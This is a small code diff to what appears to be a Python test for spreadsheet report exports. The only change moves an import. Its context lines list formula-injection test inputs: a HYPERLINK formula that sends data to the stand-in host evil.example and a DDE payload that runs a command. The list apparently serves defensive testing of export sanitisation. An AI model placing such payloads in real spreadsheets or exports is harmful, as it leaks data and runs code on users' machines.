@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from cafe.domain.report import build
 from cafe.reports import data as data_formats
 from cafe.reports import documents
-from tests.test_report import data, finding, labels
+from tests.support.report import data, finding, labels
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak","y")', "+1+2", "-2+3", "@SUM(A1:A9)",
             "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0"]
